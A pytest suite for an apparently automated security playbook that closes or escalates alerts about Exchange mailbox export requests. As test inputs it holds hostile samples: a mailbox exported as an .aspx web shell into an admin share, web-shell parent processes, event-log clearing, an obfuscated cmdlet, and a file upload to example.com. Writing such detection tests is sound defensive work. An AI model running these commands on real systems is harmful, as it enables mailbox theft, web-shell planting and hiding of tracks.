"""The verdict: honest work that is proven closes, one change keeps it open, and doubt never closes."""

import asyncio
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from itertools import combinations
from typing import Any

import pytest
from fakes import fake_sources, later_event, own_alert
from hypothesis import given, settings
from hypothesis import strategies as st
from worlds import (
    ADMIN_STATION,
    BOSS_SID,
    CASE,
    CASE_REMOVAL,
    CLEAN_UP,
    HONEST,
    JOB,
    JOB_SID,
    LEGAL_STATION,
    MAINTENANCE,
    OWN,
    OWN_REMOVAL,
    TENANT,
    changed,
    codes,
    event,
    job_row,
    judge,
    learn,
    moment,
    person,
    reworded,
    tenant,
    user,
)

from playbooks.mailbox_export import Evidence, decide, gather, reason_codes
from playbooks.model import (
    Account,
    Alert,
    Close,
    Escalate,
    Found,
    Incident,
    Judgement,
    LoggedAlert,
    ProcessEvent,
    Severity,
    Stance,
    Unavailable,
)
from playbooks.who.scope import alert_period

World = dict[str, Any]
Change = Callable[[World], object]

REQUIRED = {
    "scheduled_export": ("user_by_name", "MailboxExportJobs"),
    "maintenance_cleanup": ("user_by_name", "MailboxExportJobs"),
    "ediscovery": ("user_by_name", "EDiscoveryCases"),
    "self_export": ("user_by_name", "MailboxExportHosts"),
}
ALWAYS_REQUIRED = (
    "user_by_mailbox",
    "groups_of",
    "roles_of",
    "risk_of",
    "process_events",
    "process_events_with",
    "first_event_after",
    "alerts_naming",
    "closes_since",
    "VIPUsers",
    "TerminatedEmployees",
)


def alert(**more: Any) -> LoggedAlert:
    """Another product's alert on the Exchange server, an hour before the job."""
    shown: dict[str, Any] = {
        "time": moment("2024-11-18 20:00"),
        "system_alert_id": "other",
        "name": "Suspicious sign-in",
        "product": "Identity Protection",
        "rule_ids": frozenset(),
        "host_names": frozenset({"exch01"}),
        "account_names": frozenset(),
    }
    return LoggedAlert(**(shown | more))


def case_row(world: World) -> dict[str, str]:
    """The case's row, to be changed in place."""
    row: dict[str, str] = world["watchlists"]["EDiscoveryCases"][0]
    return row


def risky(level: str, state: str) -> Change:
    """Identity Protection's word on the administrator."""
    return lambda w: w["riskyUsers"].append({"id": "id-admin", "riskLevel": level, "riskState": state})


def add_service_account(world: World) -> None:
    """svc-x, who may export."""
    world["users"].append(user("svc-x", "S-1-5-21-9-9-9-9"))
    world["groups"][0]["members"].append("id-svc-x")


def verdict_codes(pair: tuple[ProcessEvent, ...], world: World | None = None, **more: Any) -> set[str]:
    """Codes that keep the pair open; a close has none."""
    return codes(asyncio.run(judge(pair, world, **more)).verdict)


@pytest.mark.parametrize("scenario", HONEST)
async def test_proven_work_closes_and_says_by_what(scenario: str) -> None:
    """Each scenario closes; the comment names scenario and row for each command; a close waits its hold."""
    judgement = await judge(HONEST[scenario])

    assert isinstance(judgement.verdict, Close)
    assert scenario in judgement.verdict.scenarios
    assert 2 == len(judgement.verdict.reasons)
    assert HONEST[scenario][1].time + timedelta(minutes=75) == judgement.final_from
    assert all(finding.covered_by for finding in judgement.briefing.findings)
    assert () == judgement.briefing.steps
    assert "" == judgement.briefing.proposal


NEAR_MISSES: dict[str, tuple[tuple[ProcessEvent, ...], Change | None, str]] = {
    "another host": (
        tuple(replace(e, dvc_fqdn="exch02.contoso.com") for e in JOB), None, "host_not_bound",
    ),
    "another account": (
        tuple(replace(e, target_username=r"CONTOSO\admin") for e in JOB), None, "export_uncovered",
    ),
    "started by hand": (
        changed(JOB, 0, acting_process_name=r"C:\Windows\explorer.exe", acting_process_command_line=""),
        None, "export_uncovered",
    ),
    "no parent recorded": (
        changed(JOB, 0, acting_process_name="", acting_process_command_line=""), None, "parent_suspicious",
    ),
    "another mailbox": (reworded(JOB, 0, "audit.box", "boss"), None, "mailbox_outside_scope"),
    "a mailbox nobody has": (reworded(JOB, 0, "audit.box", "ghost"), None, "mailbox_outside_scope"),
    "another folder": (reworded(JOB, 0, "Exports$", "Exports$x"), None, "path_outside_root"),
    "early": (changed(JOB, 0, time=moment("2024-11-18 20:49")), None, "outside_window"),
    "late removal": (changed(JOB, 1, time=moment("2024-11-18 23:01")), None, "removal_too_late"),
    "expired row": (JOB, lambda w: job_row(w).update(ValidUntil="2024-11-17T00:00:00Z"), "row_expired"),
    "unreadable row": (JOB, lambda w: job_row(w).update(ValidUntil="never"), "register_row_invalid"),
    "fresh row": (JOB, lambda w: job_row(w).update(_updated="2024-11-17T21:00:01Z"), "register_row_recent"),
    "row changed afterwards": (
        JOB, lambda w: job_row(w).update(_updated="2024-11-19T21:00:00Z"), "register_row_recent",
    ),
    "maintenance row": (JOB, lambda w: job_row(w).update(Scenario="maintenance"), "export_uncovered"),
    "SYSTEM may not export": (
        tuple(replace(e, target_username="") for e in JOB),
        lambda w: job_row(w).update(RunAs="SYSTEM"), "export_uncovered",
    ),
    "name with no separator": (reworded(JOB, 0, "NightlyExport", "NightlyExport2"), None, "job_not_selected"),
    "removal of everything": (
        reworded(JOB, 1, " -BatchName NightlyExport -Status Completed", ""), None, "removal_unscoped",
    ),
    "removal by wildcard": (reworded(JOB, 1, "NightlyExport", "*"), None, "removal_unscoped"),
    "removal of another job": (reworded(JOB, 1, "NightlyExport", "OtherJob"), None, "removal_uncovered"),
    "move requests too": (
        reworded(JOB, 1, "-Confirm:$false", "-Confirm:$false; Get-MoveRequest | Remove-MoveRequest"),
        None, "removal_unscoped",
    ),
    "record suppressed": (
        reworded(JOB, 0, "-BatchName", "-CompletedRequestAgeLimit 0 -BatchName"), None, "record_suppressed",
    ),
    "not a pst": (reworded(JOB, 0, "audit.pst", "audit.pst.aspx"), None, "target_not_pst"),
    "target from a variable": (
        reworded(JOB, 0, r"'\\FS01\Exports$\a\audit.pst'", "$target"), None, "command_unparsed",
    ),
    "another starter": (changed(JOB, 0, actor_username=r"CONTOSO\boss"), None, "identity_conflict"),
    "web shell": (
        changed(JOB, 0, acting_process_name=r"C:\Windows\System32\inetsrv\w3wp.exe"),
        None, "parent_suspicious",
    ),
    "disabled account": (JOB, lambda w: w["users"][0].update(accountEnabled=False), "account_disabled"),
    "state not known": (JOB, lambda w: w["users"][0].update(accountEnabled=None), "source_unavailable"),
    "age not known": (JOB, lambda w: w["users"][0].update(createdDateTime=None), "source_unavailable"),
    "new account": (
        JOB, lambda w: w["users"][0].update(createdDateTime="2024-10-20T00:00:00Z"), "account_new",
    ),
    "two of that name": (
        JOB, lambda w: w["users"].append(user("svc-job", BOSS_SID, id="id-twin")), "source_unavailable",
    ),
    "nobody of that name": (JOB, lambda w: w["users"].pop(0), "runner_unknown"),
    "cleaning any status": (reworded(MAINTENANCE, 1, " -Status Completed", ""), None, "removal_unscoped"),
    "cleaning failed ones": (reworded(MAINTENANCE, 1, "Completed", "Failed"), None, "removal_unscoped"),
    "cleaning late": (changed(MAINTENANCE, 1, time=moment("2024-11-18 21:40")), None, "outside_window"),
    "cleaning up a theft": (reworded(MAINTENANCE, 0, "audit.box", "boss"), None, "mailbox_outside_scope"),
    "cleaning as NETWORK SERVICE": (
        changed(MAINTENANCE, 1, target_username=r"NT AUTHORITY\NETWORK SERVICE"),
        None, "service_account_unregistered",
    ),
    "no member": (CASE, lambda w: w["groups"].pop(1), "export_uncovered"),
    "closed case": (
        CASE,
        lambda w: case_row(w).update(Status="closed", ClosedOn="2024-11-19T00:00:00Z"),
        "case_not_open",
    ),
    "no custodian": (reworded(CASE, 0, "custodian", "boss"), None, "mailbox_outside_scope"),
    "folder of another case": (reworded(CASE, 0, r"\LEG-1\c", r"\LEG-2\c"), None, "path_outside_root"),
    "removal of another case": (reworded(CASE, 1, "LEG-1", "LEG-2"), None, "removal_uncovered"),
    "removal of another's request": (
        reworded(OWN, 1, r"'admin\MailboxExport'", r"'boss\MailboxExport'"), None, "removal_uncovered",
    ),
    "no legal host": (
        tuple(replace(e, dvc_fqdn=ADMIN_STATION) for e in CASE), None, "host_not_bound",
    ),
    "evening": (changed(CASE, 1, time=moment("2024-11-20 18:00")), None, "off_hours"),
    "weekend": (tuple(replace(e, time=e.time + timedelta(days=3)) for e in CASE), None, "off_hours"),
    "case not named": (reworded(CASE, 0, "LEG-1 ", "LEG-11 "), None, "case_not_selected"),
    "another's mailbox": (reworded(OWN, 0, "-Mailbox admin", "-Mailbox boss"), None, "export_uncovered"),
    "a second mailbox": (
        reworded(OWN, 0, "-Mailbox admin", "-Mailbox boss -Name x; New-MailboxExportRequest -Mailbox admin"),
        None, "export_uncovered",
    ),
    "no role": (OWN, lambda w: w["groups"].pop(0), "export_uncovered"),
    "subject filter": (
        reworded(OWN, 0, "-FilePath", "-ContentFilter {Subject -eq 'x'} -FilePath"), None, "export_uncovered",
    ),
    "folder filter": (
        reworded(OWN, 0, "-FilePath", "-IncludeFolders '#Drafts#' -FilePath"), None, "export_uncovered",
    ),
    "another's folder": (reworded(OWN, 0, r"\admin\own", r"\admin2\own"), None, "path_outside_root"),
    "unlisted host": (
        tuple(replace(e, dvc_fqdn=LEGAL_STATION) for e in OWN), None, "host_not_bound",
    ),
    "a service account's own mailbox": (
        tuple(
            replace(e, target_process_command_line=e.target_process_command_line.replace("admin", "svc-x"),
                    actor_username=r"CONTOSO\svc-x", target_username=r"CONTOSO\svc-x")
            for e in OWN
        ),
        add_service_account,
        "service_account_unregistered",
    ),
    "risky": (OWN, risky("medium", "atRisk"), "account_risky"),
    "compromised": (OWN, risky("none", "confirmedCompromised"), "account_risky"),
    "hidden risk": (OWN, risky("hidden", "none"), "source_unavailable"),
    "unknown risk": (OWN, risky("none", "unknownFutureValue"), "source_unavailable"),
    "VIP": (
        CASE, lambda w: w["watchlists"].update(VIPUsers=[{"User Identifier": "custodian@contoso.com"}]),
        "vip_mailbox",
    ),
    "leaver": (
        OWN, lambda w: w["watchlists"].update(TerminatedEmployees=[{"User AAD Object Id": "id-admin"}]),
        "terminated_employee",
    ),
    "no register of jobs": (JOB, lambda w: w["watchlists"].pop("MailboxExportJobs"), "source_unavailable"),
    "empty register of cases": (
        CASE, lambda w: w["watchlists"].update(EDiscoveryCases=[]), "source_unavailable",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", NEAR_MISSES)
async def test_one_change_keeps_it_open(name: str) -> None:
    """Honest work with one thing different escalates and says which."""
    pair, change, code = NEAR_MISSES[name]

    judgement = await judge(pair, tenant(change))

    assert isinstance(judgement.verdict, Escalate)
    assert code in codes(judgement.verdict)


CMD = r"C:\Windows\System32\cmd.exe"
NIGHT = moment("2024-11-20 23:00")
BY_NIGHT: dict[str, tuple[tuple[ProcessEvent, ...], bool]] = {
    "a job's export by hand": (changed(JOB, 0, acting_process_name=CMD), False),
    "a job's removal by hand": (changed(JOB, 1, acting_process_name=CMD), False),
    "maintenance by hand": (changed(MAINTENANCE, 1, acting_process_name=CMD), False),
    "a case": (changed(CASE, 0, time=NIGHT), True),
    "the own mailbox": (changed(OWN, 0, time=NIGHT), True),
    "what nothing is near to": (
        changed(reworded(OWN, 0, "-Mailbox admin", "-Mailbox boss"), 0, time=NIGHT),
        True,
    ),
}


@pytest.mark.parametrize("name", BY_NIGHT)
async def test_business_hours_are_held_against_people_s_work_alone(name: str) -> None:
    """A job has its own window: it stays open for what it misses, not for the hour."""
    pair, expected = BY_NIGHT[name]
    verdict = (await judge(pair)).verdict

    assert isinstance(verdict, Escalate)
    assert expected is ("off_hours" in codes(verdict))


@pytest.mark.parametrize("sid", ["", JOB_SID])
async def test_an_account_that_is_not_one_user_is_told_once(sid: str) -> None:
    """Groups, roles and risk hang on the account; what keeps them unread is the same cause."""
    pair = tuple(replace(e, target_user_id=sid) for e in JOB)
    twin = user("svc-job", JOB_SID, id="id-twin")
    verdict = (await judge(pair, tenant(lambda w: w["users"].append(twin)))).verdict
    unread = [reason.text for reason in verdict.reasons if reason.code == "source_unavailable"]

    assert [r"Not checked: account CONTOSO\svc-job: ambiguous account"] == unread


async def test_what_hangs_on_a_known_account_is_told_each_by_itself() -> None:
    """Two failed look-ups about one user are two things to look up by hand."""
    verdict = (await judge(OWN, broken=frozenset({"roles_of", "groups_of"}))).verdict
    unread = {reason.text.split(": ")[1] for reason in verdict.reasons if reason.code == "source_unavailable"}

    assert {r"groups of CONTOSO\admin", r"directory roles of CONTOSO\admin"} == unread


KEPT: dict[str, tuple[tuple[ProcessEvent, ...], Change | None]] = {
    "a date filter on the own mailbox": (
        reworded(OWN, 0, "-FilePath", "-ContentFilter {(Received -ge '01/01/2024')} -FilePath"), None,
    ),
    "a keyword filter in a case": (
        reworded(CASE, 0, "-FilePath", "-ContentFilter {Body -like '*Orion*'} -FilePath"), None,
    ),
    "removal by the custodian's mailbox": (
        changed(CASE, 1, target_process_command_line=CASE[1].target_process_command_line.replace(
            "-BatchName LEG-1", "-Mailbox custodian")), None,
    ),
    "all mailboxes of a job": (
        reworded(JOB, 0, r"New-MailboxExportRequest -Mailbox audit.box -BatchName NightlyExport -FilePath "
                 r"'\\FS01\Exports$\a\audit.pst'",
                 "Get-Mailbox | % { New-MailboxExportRequest -Mailbox $_.Alias -BatchName NightlyExport "
                 "-FilePath "
                 r"('\\FS01\Exports$\a\'+$_.Alias+'.pst') }"),
        lambda w: job_row(w).update(Mailboxes="*"),
    ),
    "a second row of that name that does not fit": (
        JOB, lambda w: w["watchlists"]["MailboxExportJobs"].append(job_row(w) | {"Hosts": "EXCH09"}),
    ),
    "a recent row beside an old one": (
        JOB,
        lambda w: w["watchlists"]["MailboxExportJobs"].append(
            job_row(w) | {"_updated": "2024-11-18T20:00:00Z", "Ticket": "CHG0000000"}
        ),
    ),
    "a broken row beside a good one": (
        JOB, lambda w: w["watchlists"]["MailboxExportJobs"].append(job_row(w) | {"Window": "soon"}),
    ),
    "a case closed since": (
        CASE,
        lambda w: case_row(w).update(ClosedOn="2024-11-21T00:00:00Z"),
    ),
    "a remediated risk": (
        OWN, risky("none", "remediated"),
    ),
    "somebody else is a VIP": (
        CASE, lambda w: w["watchlists"].update(VIPUsers=[{"User Identifier": "boss@contoso.com"}]),
    ),
    "no register of cases for a job": (JOB, lambda w: w["watchlists"].pop("EDiscoveryCases")),
    "a row changed a day before": (JOB, lambda w: job_row(w).update(_updated="2024-11-17T21:00:00Z")),
}  # fmt: skip


@pytest.mark.parametrize("name", KEPT)
async def test_a_change_that_does_not_matter_still_closes(name: str) -> None:
    """Honest variants are not kept open for their form."""
    pair, change = KEPT[name]

    assert set() == codes((await judge(pair, tenant(change))).verdict)


@pytest.mark.parametrize("scenario", HONEST)
async def test_a_required_look_up_that_fails_never_closes_and_may_be_repeated(scenario: str) -> None:
    """Each required source in turn does not answer: open, nothing held against it, a repeat may help."""
    for item in (*ALWAYS_REQUIRED, *REQUIRED[scenario]):
        verdict = (await judge(HONEST[scenario], broken=frozenset({item}))).verdict

        assert isinstance(verdict, Escalate), item
        assert {"source_unavailable"} == codes(verdict), item
        assert verdict.retry_may_help, item
        assert Severity.MEDIUM is verdict.severity


@pytest.mark.parametrize("scenario", HONEST)
async def test_two_outages_at_once_hold_nothing_against_honest_work(scenario: str) -> None:
    """A doubt is told as a doubt: after the outage the same incident closes."""
    items = (*ALWAYS_REQUIRED, *REQUIRED[scenario], "user_by_sid", "device_named")
    for pair in combinations(items, 2):
        verdict = (await judge(HONEST[scenario], broken=frozenset(pair))).verdict

        assert codes(verdict) <= {"source_unavailable"}, pair


@pytest.mark.parametrize("item", ["device_named", "HighValueAssets"])
async def test_what_is_only_shown_does_not_keep_open(item: str) -> None:
    """The device and the list of assets are facts for the analyst; no close rests on them."""
    judgement = await judge(JOB, broken=frozenset({item}))

    assert isinstance(judgement.verdict, Close)
    assert any("not checked" in fact.value for fact in judgement.briefing.facts)


async def test_an_event_sid_that_is_run_as_needs_no_directory_entry() -> None:
    """Service accounts are often not synchronised; an outage of the directory is still a doubt."""
    sid = "S-1-5-21-7-7-7-7"
    pair = tuple(replace(e, target_username=r"CONTOSO\svc-cold", target_user_id=sid) for e in JOB)
    world = tenant(lambda w: job_row(w).update(RunAs=sid))

    assert set() == codes((await judge(pair, world)).verdict)
    assert {"source_unavailable"} == codes(
        (await judge(pair, world, broken=frozenset({"user_by_sid"}))).verdict
    )
    assert {"source_unavailable"} == codes(
        (await judge(pair, world, broken=frozenset({"user_by_name"}))).verdict
    )


async def test_a_registered_sid_under_a_name_of_another_is_a_conflict() -> None:
    """The directory has that name under another SID."""
    sid = "S-1-5-21-7-7-7-7"
    pair = tuple(replace(e, target_username=r"CONTOSO\boss", target_user_id=sid) for e in JOB)

    assert "identity_conflict" in codes(
        (await judge(pair, tenant(lambda w: job_row(w).update(RunAs=sid)))).verdict
    )


async def test_without_a_licence_risk_is_not_asked_and_does_not_block() -> None:
    """The setting says so, and so does the comment."""
    evidence = await learn(OWN)
    quiet = replace(evidence.policy, identity_protection=False)
    events = (*OWN, later_event(OWN[1].time + timedelta(minutes=61)))
    sources = fake_sources(TENANT, events, asked_at=evidence.asked_at, broken=frozenset({"risk_of"}))

    judgement = decide(await gather(evidence.incident, sources, quiet))
    assert isinstance(judgement.verdict, Close)
    assert any("Identity Protection is not in use" in fact.value for fact in judgement.briefing.facts)


NEARBY = {
    "role_granted": "Add-RoleGroupMember 'Export Operators' -Member boss",
    "share_created": "New-SmbShare -Name x -Path C:\\x",
    "archiver_used": "Compress-Archive C:\\x C:\\x.zip",
    "task_changed": "Set-ScheduledTask -TaskName NightlyExport",
    "service_created": "New-Service -Name x -BinaryPathName y",
    "log_cleared": "Clear-EventLog -LogName Security",
    "upload_tool": "Invoke-WebRequest https://example.com -Method Post -InFile x",
}


@pytest.mark.parametrize("code", NEARBY)
async def test_what_else_ran_nearby_keeps_it_open_as_high(code: str) -> None:
    """In the window on the host, from 60 minutes before to 60 after, and not a second later."""
    for when, seen in (("20:00", True), ("22:40", True), ("19:59:59", False), ("22:40:01", False)):
        near = event(NEARBY[code], f"2024-11-18 {when}", target_username=r"CONTOSO\boss", actor_username="")
        verdict = (await judge(JOB, nearby=[near])).verdict

        assert seen is (code in codes(verdict)), when
        assert not isinstance(verdict, Escalate) or Severity.HIGH is verdict.severity


@pytest.mark.parametrize("code", NEARBY)
async def test_on_another_host_only_a_role_grant_counts(code: str) -> None:
    """A role is granted for the whole organisation."""
    elsewhere = person(NEARBY[code], "2024-11-18 21:10", "boss", "ws-0007.contoso.com")

    assert (code == "role_granted") is (code in codes((await judge(JOB, nearby=[elsewhere])).verdict))


async def test_the_window_lies_around_the_commands_not_around_the_alert() -> None:
    """An alert may span hours; what ran long before the export is not held against it."""
    evidence = await learn(JOB)
    alerts = evidence.incident.alerts
    long = tuple(
        replace(one, start=JOB[0].time - timedelta(hours=5))
        for one in (alerts.value if isinstance(alerts, Found) else ())
    )
    early = event(NEARBY["archiver_used"], "2024-11-18 18:00", target_username=r"CONTOSO\boss")
    events = (early, *JOB, later_event(JOB[1].time + timedelta(minutes=61)))
    incident = replace(evidence.incident, alerts=Found(long))
    sources = fake_sources(TENANT, events, asked_at=evidence.asked_at)

    judgement = decide(await gather(incident, sources, evidence.policy))
    assert isinstance(judgement.verdict, Close)
    assert JOB[1].time + timedelta(minutes=75) == judgement.final_from


async def test_every_export_in_the_window_is_judged() -> None:
    """A second export by another account, outside the alert's own times, is not overlooked."""
    theft = person(
        r"New-MailboxExportRequest -Mailbox boss -FilePath '\\FS01\Exports$\b.pst'",
        "2024-11-18 22:30", "boss", "exch01.contoso.com",
    )  # fmt: skip

    assert "export_uncovered" in codes((await judge(JOB, nearby=[theft])).verdict)


async def test_a_text_that_names_the_cmdlet_unreadably_is_a_doubt_against() -> None:
    """Built from pieces, the cmdlet is still seen."""
    built = event("& ('New-Mailbox'+'ExportRequest') $x", "2024-11-18 21:10")

    assert "command_unparsed" in codes((await judge(JOB, nearby=[built])).verdict)


async def test_an_empty_command_line_of_a_shell_is_missing_evidence() -> None:
    """What PowerShell did there nobody can say."""
    empty = event("", "2024-11-18 21:10", target_process_command_line="")

    assert "command_cut" in codes((await judge(JOB, nearby=[empty])).verdict)


async def test_half_a_pair_stays_open() -> None:
    """An export alone, a removal alone, and a removal that would not run."""
    dry = reworded(JOB, 1, "-Confirm:$false", "-WhatIf")

    assert "half_missing" in codes((await judge(JOB[:1])).verdict)
    assert "half_missing" in codes((await judge(JOB[1:])).verdict)
    assert "half_missing" in codes((await judge(dry)).verdict)


async def test_each_host_of_the_incident_needs_its_own_pair() -> None:
    """A second host without events is a host whose part was not seen."""
    verdict = (await judge(JOB, hosts=("exch01.contoso.com", "exch02.contoso.com"))).verdict

    assert {"half_missing"} == codes(verdict)


async def test_a_pair_further_apart_than_26_hours_stays_open() -> None:
    """26 hours are allowed, one second more is not."""
    first = JOB[0].time
    day = changed(JOB, 1, time=first + timedelta(hours=24))
    long = (*day, replace(day[1], time=first + timedelta(hours=26, seconds=1)))

    assert set() == codes((await judge(day)).verdict)
    assert "span_too_long" in codes((await judge(long)).verdict)


async def test_a_pair_may_lie_across_a_clock_hour() -> None:
    """The window slides; hours of the clock mean nothing."""
    pair = changed(changed(JOB, 0, time=moment("2024-11-18 21:58")), 1, time=moment("2024-11-18 22:02"))

    assert set() == codes((await judge(pair)).verdict)


async def test_incomplete_logs_wait_for_the_allowance() -> None:
    """Nothing speaks against it: a later attempt may close, until the allowance is over."""
    judgement = await judge(JOB, complete=False)

    assert isinstance(judgement.verdict, Escalate)
    assert {"logs_incomplete"} == codes(judgement.verdict)
    assert judgement.verdict.retry_may_help
    assert JOB[1].time + timedelta(hours=3) == judgement.final_from


async def test_an_escalation_for_more_than_logs_waits_for_nothing() -> None:
    """A flag is final at once."""
    judgement = await judge(reworded(JOB, 0, "audit.pst", "audit.aspx"), complete=False)

    assert judgement.final_from is None
    assert isinstance(judgement.verdict, Escalate)
    assert not judgement.verdict.retry_may_help


async def test_an_event_from_the_future_proves_nothing_about_logs() -> None:
    """A clock that runs ahead must not make logs look complete."""
    evidence = await learn(JOB)

    ahead = replace(evidence, logs_reach=Found(evidence.asked_at + timedelta(seconds=1)))
    assert {"logs_incomplete"} == codes(decide(ahead).verdict)


async def test_twenty_closes_a_day_are_the_limit() -> None:
    """More than the setting's number stay open."""
    assert set() == codes((await judge(JOB, closes=20)).verdict)
    assert {"close_limit"} == codes((await judge(JOB, closes=21)).verdict)


@pytest.mark.parametrize(
    ("more", "counts"),
    [
        ({}, True),
        ({"host_names": frozenset(), "account_names": frozenset({"contoso\\svc-job"})}, True),
        ({"host_names": frozenset(), "account_names": frozenset({"svc-job@contoso.com"})}, True),
        ({"host_names": frozenset({"exch02"})}, False),
        ({"time": moment("2024-11-17 21:00")}, True),
        ({"time": moment("2024-11-17 20:59")}, False),
        ({"time": moment("2024-11-19 03:00")}, True),
        ({"rule_ids": frozenset({"4500a2ff-455b-4ee7-a21d-5ac5c7c9ea87"})}, False),
        ({"system_alert_id": "AAAAAAAA-0000-4000-8000-000000000001"}, False),
    ],
)
async def test_another_alert_on_host_or_runner_keeps_it_open(more: dict[str, Any], counts: bool) -> None:
    """From 24 hours before until the decision; our own rules' alerts never count against each other."""
    assert counts is ("other_alerts" in codes((await judge(JOB, alerts=[alert(**more)])).verdict))


def with_incident(evidence: Evidence, **columns: Any) -> Evidence:
    """The evidence of the same incident, read differently."""
    return replace(evidence, incident=replace(evidence.incident, **columns))


def foreign(incident: Incident) -> Alert:
    """An alert of a rule that is not ours, in the incident itself."""
    first = incident.alerts.value[0] if isinstance(incident.alerts, Found) else None
    if first is None:
        raise ValueError("the incident has no alert to copy")
    return replace(first, system_alert_id="b", rule_ids=frozenset({"another-rule"}), name="Web shell")


async def test_a_foreign_alert_in_the_incident_keeps_it_open() -> None:
    """Never closed on the strength of our alert alone."""
    evidence = await learn(JOB)
    alerts = evidence.incident.alerts
    more = (*alerts.value, foreign(evidence.incident)) if isinstance(alerts, Found) else ()

    assert {"other_alerts"} == codes(decide(with_incident(evidence, alerts=Found(more))).verdict)


@pytest.mark.parametrize("where", ["nowhere", "another host"])
async def test_an_alert_of_our_rule_that_the_log_shows_on_no_judged_host_keeps_it_open(where: str) -> None:
    """The incident gives hosts and alerts apart; one without a host, or about another, was not looked at."""
    evidence = await learn(JOB)
    assert isinstance(evidence.incident.alerts, Found)
    assert isinstance(evidence.alerts, Found)
    one, *_ = evidence.incident.alerts.value
    second = replace(one, system_alert_id="bbbbbbbb-0000-4000-8000-000000000002")
    logged = own_alert(second.system_alert_id, hosts=frozenset({"exch02"}), time=JOB[0].time)
    rows = (*evidence.alerts.value, *((logged,) if where == "another host" else ()))
    both = with_incident(replace(evidence, alerts=Found(rows)), alerts=Found((one, second)))

    verdict = decide(both).verdict

    assert isinstance(verdict, Escalate)
    assert {"source_unavailable"} == codes(verdict)
    assert verdict.retry_may_help


@pytest.mark.parametrize(
    "columns",
    [
        {"alerts": Unavailable("alerts", "cut off")},
        {"entities_whole": False},
        {"hosts": ()},
        {"accounts": (Account(name="stranger", nt_domain="CONTOSO"),)},
    ],
)
async def test_an_incident_that_was_not_read_whole_stays_open(columns: dict[str, Any]) -> None:
    """Alerts, entities and hosts are evidence like any other; so is an account that no event names."""
    first = await learn(JOB)
    incident = replace(first.incident, **columns)
    evidence = (
        await learn(JOB) if "hosts" not in columns else replace(first, hosts=(), events=Unavailable("x", "y"))
    )

    assert {"source_unavailable"} == codes(decide(replace(evidence, incident=incident)).verdict)


async def test_an_incident_without_alerts_has_no_time_to_look_at() -> None:
    """Alerts may not be ready at creation: open, and a later attempt may help."""
    evidence = await learn(JOB)
    incident = replace(evidence.incident, alerts=Found(()))
    sources = fake_sources(TENANT, JOB, asked_at=evidence.asked_at)

    verdict = decide(await gather(incident, sources, evidence.policy)).verdict
    assert isinstance(verdict, Escalate)
    assert {"source_unavailable"} == codes(verdict)
    assert verdict.retry_may_help


async def test_an_incident_without_a_host_says_no_entities_and_may_be_repeated() -> None:
    """Entities may not be ready at creation."""
    verdict = (await judge(JOB, hosts=("",))).verdict

    assert isinstance(verdict, Escalate)
    assert verdict.retry_may_help
    assert any("no entities" in reason.text for reason in verdict.reasons)


@pytest.mark.parametrize(
    ("start", "end"),
    [
        (None, moment("2024-11-18 21:40")),
        (moment("2024-11-18 21:40"), moment("2024-11-18 21:00")),
        (datetime(1, 1, 1, tzinfo=UTC), moment("2024-11-18 21:40")),
        (moment("2024-11-18 21:00"), datetime(2262, 1, 1, tzinfo=UTC)),
        (moment("2034-11-18 21:00"), moment("2034-11-18 21:40")),
        (datetime(2024, 11, 18, 21), moment("2024-11-18 21:40")),  # noqa: DTZ001
    ],
)
def test_times_that_cannot_be_are_not_used(start: datetime | None, end: datetime) -> None:
    """Missing, without a zone, backwards, at the ends of time, in the future."""
    evidence = asyncio.run(learn(JOB))
    alerts = evidence.incident.alerts
    one = replace(alerts.value[0], start=start, end=end) if isinstance(alerts, Found) else None
    incident = replace(evidence.incident, alerts=Found((one,) if one else ()))

    period = alert_period(incident, evidence.asked_at, evidence.policy)
    assert isinstance(period, Unavailable)
    assert "time not usable" in period.cause


async def test_an_account_of_the_incident_that_ran_it_is_no_stranger() -> None:
    """By name, by SID, or as the one that started it."""
    for account in (
        Account(name="svc-job", nt_domain="CONTOSO"),
        Account(name="CONTOSO\\svc-job"),
        Account(name="system"),
        Account(sid=TENANT["users"][0]["onPremisesSecurityIdentifier"]),
    ):
        assert set() == codes((await judge(JOB, accounts=[account])).verdict)


async def test_short_and_full_device_names_are_one_host_and_foreign_ones_are_not() -> None:
    """A short name is completed with the organisation's suffix; `exch01.fabrikam.com` is another machine."""
    short = tuple(replace(e, dvc_fqdn="") for e in JOB)
    stranger = replace(event(CLEAN_UP, "2024-11-18 21:20"), dvc_fqdn="exch01.fabrikam.com")

    assert set() == codes((await judge(short, hosts=("exch01.contoso.com",))).verdict)
    assert set() == codes((await judge(JOB, nearby=[stranger])).verdict)


async def test_all_reasons_are_told_and_only_known_codes() -> None:
    """Not the first one met: every flag that holds is listed, worst first."""
    pair = reworded(JOB, 0, r"'\\FS01\Exports$\a\audit.pst'", r"'\\127.0.0.1\c$\inetpub\x.aspx'")
    verdict = (await judge(changed(pair, 0, acting_process_name="w3wp.exe"), closes=99)).verdict

    wanted = {"target_not_pst", "target_web_root", "target_admin_share", "target_untrusted_host"}
    assert wanted | {"parent_suspicious", "close_limit", "path_outside_root"} <= codes(verdict)
    assert "target_not_pst" == next(r.code for r in verdict.reasons if r.stance is Stance.AGAINST)
    assert codes(verdict) <= {*reason_codes.RED_FLAGS, *reason_codes.FURTHER_REASONS}


@pytest.mark.parametrize("name", NEAR_MISSES)
async def test_severity_follows_the_codes(name: str) -> None:
    """High for the policy's list, else Medium."""
    pair, change, _ = NEAR_MISSES[name]
    verdict = (await judge(pair, tenant(change))).verdict

    assert isinstance(verdict, Escalate)
    high = bool(codes(verdict) & reason_codes.RAISES_TO_HIGH)
    assert (Severity.HIGH if high else Severity.MEDIUM) is verdict.severity


async def test_a_row_is_proposed_only_where_no_red_flag_is_up() -> None:
    """A job that moved to another host gets the changed row and its owner; with a flag there is none."""
    moved = tuple(replace(e, dvc_fqdn="exch02.contoso.com") for e in JOB)
    flagged = changed(moved, 0, acting_process_name="w3wp.exe")

    offered = (await judge(moved)).briefing.proposal
    assert "Hosts: add exch02.contoso.com" in offered
    assert "boss@contoso.com" in offered
    assert "" == (await judge(flagged)).briefing.proposal
    assert "" == (await judge(reworded(JOB, 0, "audit.box", "boss"))).briefing.proposal
    assert "" == (await judge(moved, broken=frozenset({"closes_since"}))).briefing.proposal


async def test_the_story_names_runner_parent_command_and_what_is_missing() -> None:
    """What a tired analyst needs, in words, with the account's facts and where to look next."""
    briefing = (await judge(reworded(JOB, 0, "audit.box", "boss"))).briefing
    export = next(finding for finding in briefing.findings if finding.what == "export")

    assert r"CONTOSO\svc-job" == export.runner
    assert "Schedule" in export.parent
    assert "" == export.covered_by
